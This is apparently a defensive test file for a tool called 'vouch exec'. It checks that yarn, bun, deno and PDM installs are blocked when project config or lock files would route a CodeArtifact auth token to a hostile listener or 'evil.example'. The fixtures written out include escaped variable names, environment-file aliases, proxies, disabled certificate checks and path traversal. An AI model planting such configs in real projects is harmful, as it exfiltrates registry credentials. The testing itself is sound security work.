/**
 * `vouch exec` with package managers that have no shim, in projects whose data files put the token's variable into an
 * address of their own. Each attack has an honest twin: the same tool, the same file, the registry's address.
 */
import { afterAll, afterEach, beforeAll, describe, expect, test } from "bun:test";
import { mkdirSync, symlinkSync } from "node:fs";
import { join } from "node:path";
import { type Finished, type Laptop, startLaptop } from "../../laptop.ts";
import { requires } from "../../requires.ts";
import { names } from "../../sandbox/main.ts";
import { myLib, myPackage, seedPackage } from "../../sandbox/packages.ts";
import { type HostileListener, holdsToken, startHostileListener } from "./listener.ts";
import { type Files, newProject, ours, tools } from "../tools/javascript/javascript-projects.ts";

const host = names.packageHost;
const token = "${CODEARTIFACT_AUTH_TOKEN}";

let laptop: Laptop;
let evil: HostileListener;

beforeAll(async () => {
  laptop = await startLaptop();
  await laptop.getReady();
  await seedPackage(laptop.sandbox.registries, "npm", myLib);
  await seedPackage(laptop.sandbox.registries, "pypi", myPackage);
  mkdirSync(join(laptop.folder, "evil"));
  evil = await startHostileListener({ folder: join(laptop.folder, "evil"), host });
  const bin = join(laptop.folder, "bun");
  mkdirSync(bin);
  for (const name of ["bun", "bunx"]) symlinkSync(process.execPath, join(bin, name));
});
afterAll(async () => {
  await evil?.stop();
  await laptop?.stop();
});
afterEach(() => {
  const taken = evil.requests.filter(holdsToken);
  evil.requests.length = 0;
  expect(taken).toEqual([]);
});

/** Runs `vouch exec -- COMMAND` in a new project with these files, in its folder `app` where there is one. */
function run(bin: string, command: string[], files: Files): Promise<Finished> {
  const { cwd, env } = newProject(laptop, files);
  return laptop.run(["vouch", "exec", "--", ...command], {
    cwd,
    env: {
      PATH: [bin.startsWith("/") ? bin : join(tools, bin, "node_modules/.bin"), laptop.env["PATH"]].join(":"),
      // yarn would ask the laptop's proxy for the listener's address too.
      YARN_HTTP_PROXY: undefined,
      ...env,
    },
  });
}

const yarn4 = (url: string, more = ""): string =>
  `nodeLinker: node-modules\nnpmRegistryServer: "${url}"\nnpmAuthToken: "${token}"\nnpmAlwaysAuth: true\n${more}`;
const plain = 'unsafeHttpWhitelist: ["*"]\n';
const npmrc = (url: string): string =>
  `registry=${url}\n${url.replace(/^https?:/, "")}:_authToken=${token}\nalways-auth=true\n`;
const bunfig = (url: string, variable = "$CODEARTIFACT_AUTH_TOKEN"): string =>
  `[install]\nregistry = { url = "${url}", token = "${variable}" }\n`;

const programs: Record<string, string> = {
  "yarn 4": "yarn/node_modules/.bin/yarn",
  "yarn 1": "yarn-1/node_modules/.bin/yarn",
  PDM: "pdm/bin/pdm",
  deno: "deno/node_modules/.bin/deno",
};

const simple = `https://${host}/pypi/${names.repository}/simple/`;
const pyproject = (url: string): string =>
  '[project]\nname = "app"\nversion = "1"\nrequires-python = ">=3.11"\ndependencies = ["my-package"]\n' +
  `[[tool.pdm.source]]\nname = "pypi"\nurl = "${url}"\n`;

const pdmLock = (url: string): string =>
  `[metadata]\ngroups = ["default"]\nstrategy = ["static_urls"]\nlock_version = "4.5.0"\n` +
  `[[package]]\nname = "my-package"\nversion = "1.0"\nurl = "${url}"\n` +
  `files = [{ url = "${url}", hash = "sha256:${"0".repeat(64)}" }]\n`;

interface Tool {
  bin: () => string;
  command: string[];
  /** `command`: another one than the table's. */
  attacks: [title: string, files: (url: string) => Files, command?: string[]][];
  honest: [title: string, files: Files][];
}

const table: Record<string, Tool> = {
  "yarn 4": {
    bin: () => "yarn",
    command: ["yarn", "install"],
    attacks: [
      ["another server", (url) => ({ ".yarnrc.yml": yarn4(url, plain), "yarn.lock": "" })],
      [
        "an escape in place of the variable's first sign",
        (url) => ({ ".yarnrc.yml": yarn4(url, plain).replace("${", "\\x24\\x7b"), "yarn.lock": "" }),
      ],
      [
        "a default in the variable",
        (url) => ({ ".yarnrc.yml": yarn4(url, plain).replace("TOKEN}", "TOKEN:-x}"), "yarn.lock": "" }),
      ],
      [
        "the address in a folder, the token above it",
        (url) => ({
          ".yarnrc.yml": yarn4(ours),
          "app/.yarnrc.yml": `npmRegistryServer: "${url}"\n${plain}`,
          "app/package.json": '{"name":"inner","dependencies":{"my-lib":"1.0.0"}}',
          "app/yarn.lock": "",
        }),
      ],
      [
        "certificates that are not checked",
        () => ({ ".yarnrc.yml": yarn4(ours, "enableStrictSsl: false\n"), "yarn.lock": "" }),
      ],
      [
        "a proxy for the registry's host",
        (url) => ({
          ".yarnrc.yml": yarn4(ours, `networkSettings:\n  "${host}":\n    httpsProxy: "${url}"\n`),
          "yarn.lock": "",
        }),
      ],
      [
        "another name for it in a file of variables",
        (url) => ({
          ".yarnrc.yml": yarn4(url, `${plain}injectEnvironmentFiles:\n  - ".hid"\n`).replace(token, "${ZED}"),
          ".hid": `ZED=${token}\n`,
          "yarn.lock": "",
        }),
      ],
      ["plain http", () => ({ ".yarnrc.yml": yarn4(ours.replace("https", "http"), plain), "yarn.lock": "" })],
      [
        "an archive elsewhere in the lock file",
        (url) => ({
          ".yarnrc.yml": yarn4(ours, plain),
          "yarn.lock":
            `__metadata:\n  version: 10\n\n"my-lib@npm:1.0.0":\n  version: 1.0.0\n  languageName: node\n  linkType: hard\n` +
            `  resolution: "my-lib@npm:1.0.0::__archiveUrl=${encodeURIComponent(`${url}/x.tgz`)}"\n`,
        }),
      ],
      [
        "the server of a scope beside a token of all registries",
        (url) => ({
          ".yarnrc.yml": yarn4(ours, `${plain}npmScopes:\n  evil:\n    npmRegistryServer: "${url}"\n`),
          "package.json": '{"name":"app","dependencies":{"@evil/lib":"1.0.0"}}',
          "yarn.lock": "",
        }),
      ],
    ],
    honest: [
      ["the registry", { ".yarnrc.yml": yarn4(ours), "yarn.lock": "" }],
      [
        "a script that names the variable",
        {
          ".yarnrc.yml": yarn4(ours),
          "package.json": '{"name":"app","scripts":{"x":"test -n $CODEARTIFACT_AUTH_TOKEN"}}',
          "yarn.lock": "",
        },
      ],
      [
        "the registry's address as the key",
        {
          ".yarnrc.yml":
            `nodeLinker: node-modules\nnpmRegistryServer: "${ours}"\nnpmRegistries:\n` +
            `  "${ours.replace(/^https:|\/$/g, "")}":\n    npmAuthToken: "${token}"\n    npmAlwaysAuth: true\n`,
          "yarn.lock": "",
        },
      ],
    ],
  },
  "yarn 1": {
    bin: () => "yarn-1",
    command: ["yarn", "install", "--ignore-scripts", "--non-interactive"],
    attacks: [
      ["another registry", (url) => ({ ".npmrc": npmrc(`${url}/`) })],
      [
        "a folder that .yarnrc names",
        (url) => ({
          ".yarnrc": '"--cwd" "foo"\n',
          "foo/.npmrc": npmrc(`${url}/`),
          "foo/package.json": '{"name":"foo","dependencies":{"my-lib":"1.0.0"}}',
        }),
      ],
      ["a key of quotes", (url) => ({ ".npmrc": npmrc(`${url}/`).replace(/^(\/\/.*?)=/m, '"$1"=') })],
      [
        "a key for another host, and an archive there",
        () => ({
          ".npmrc": `${npmrc(ours)}//evil.example/:_password=\n`,
          "yarn.lock": `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "http://evil.example/x.tgz"\n`,
        }),
      ],
      [
        "another repository of the host",
        () => ({
          ".npmrc": npmrc(ours),
          "yarn.lock": `# yarn lockfile v1\n\nmy-lib@1.0.0:\n  version "1.0.0"\n  resolved "${ours}../other/x.tgz"\n`,
        }),
      ],
      [
        "a proxy in .yarnrc",
        (url) => ({ ".npmrc": npmrc(ours), ".yarnrc": `https-proxy "${url}"\nstrict-ssl false\n` }),
      ],
    ],
    honest: [["the registry", { ".npmrc": npmrc(ours) }]],
  },
  bun: {
    bin: () => join(laptop.folder, "bun"),
    command: ["bun", "install", "--ignore-scripts"],
    attacks: [
      ["another registry", (url) => ({ "bunfig.toml": bunfig(url) })],
      ["an escape in the name", (url) => ({ "bunfig.toml": bunfig(url, "$\\u0043ODEARTIFACT_AUTH_TOKEN") })],
      [".npmrc", (url) => ({ ".npmrc": npmrc(`${url}/`) })],
      [
        "another repository of the host",
        () => ({ ".npmrc": npmrc(ours), "bun.lock": `{"packages":{"x":["x@1.0.0","${ours}..%2fother/x.tgz"]}}` }),
      ],
      [
        "another name for it in .env",
        (url) => ({ ".env": "OTHER=$CODEARTIFACT_AUTH_TOKEN\n", "bunfig.toml": bunfig(url, "$OTHER") }),
      ],
      [
        "a configuration of another name",
        (url) => ({ "other.toml": bunfig(url) }),
        ["bun", "install", "--ignore-scripts", "--config=other.toml"],
      ],
      [
        "a file of variables of another name",
        (url) => ({ "my.vars": `BUN_CONFIG_TOKEN=$CODEARTIFACT_AUTH_TOKEN\nBUN_CONFIG_REGISTRY=${url}/\n` }),
        ["bun", "--env-file=my.vars", "install", "--ignore-scripts"],
      ],
    ],
    honest: [
      ["bunfig.toml", { "bunfig.toml": bunfig(ours) }],
      [".npmrc", { ".npmrc": npmrc(ours) }],
    ],
  },
  PDM: {
    bin: () => join(tools, "pdm/bin"),
    command: ["pdm", "lock"],
    attacks: [
      ["the password in the address", (url) => ({ "pyproject.toml": pyproject(url.replace("//", `//aws:${token}@`)) })],
      [
        "the project of a short option with its value",
        (url) => ({ "sub/pyproject.toml": pyproject(url.replace("//", `//aws:${token}@`)) }),
        ["pdm", "lock", "-psub"],
      ],
      [
        "the password in the lock file",
        (url) => ({
          "pyproject.toml": pyproject(simple),
          "pdm.lock": pdmLock(`${url.replace("//", `//u:${token}@`)}/x-1.0.tar.gz`),
        }),
        ["pdm", "sync", "--no-self"],
      ],
    ],
    honest: [["the address", { "pyproject.toml": pyproject(simple.replace("//", `//aws:${token}@`)) }]],
  },
  deno: {
    bin: () => "deno",
    command: ["deno", "install", "--minimum-dependency-age=0"],
    attacks: [
      ["another registry", (url) => ({ ".npmrc": npmrc(`${url}/`) })],
      [
        "another registry beside the configuration of a module's folder",
        (url) => ({
          "foo/.npmrc": npmrc(`${url}/`),
          "foo/deno.json": '{"imports":{"my-lib":"npm:my-lib@1.0.0"}}',
          "foo/m.ts": 'import "my-lib";\n',
        }),
        ["deno", "cache", "foo/m.ts"],
      ],
    ],
    honest: [["the registry", { ".npmrc": npmrc(ours) }]],
  },
};

for (const [tool, { bin, command, attacks, honest }] of Object.entries(table)) {
  const program = tool === "bun" ? process.execPath : join(tools, programs[tool]!);
  describe.skipIf(!requires(program))(`${tool} under vouch exec`, () => {
    test.each(attacks.map(([title, files, own]) => [title, files, own] as const))(
      "is not started where a project leads the token elsewhere: %s",
      async (_, files, own?) => {
        const { exitCode, stderr } = await run(bin(), own ?? command, files(evil.url));
        expect(evil.requests.filter(holdsToken)).toEqual([]);
        expect(stderr).toMatch(
          /CODEARTIFACT_AUTH_TOKEN.*not the repository's|(decides (whom|through whom)|is an option that can decide about) the connection|no repository that Vouch is set up for/,
        );
        expect(exitCode).toBe(5);
      },
    );

    test.each(honest)("installs where the variable belongs to the registry: %s", async (_, files) => {
      const { exitCode, stdout, stderr } = await run(bin(), command, files);
      expect({ exitCode, text: exitCode === 0 ? "" : stdout + stderr }).toEqual({ exitCode: 0, text: "" });
    });
  });
}
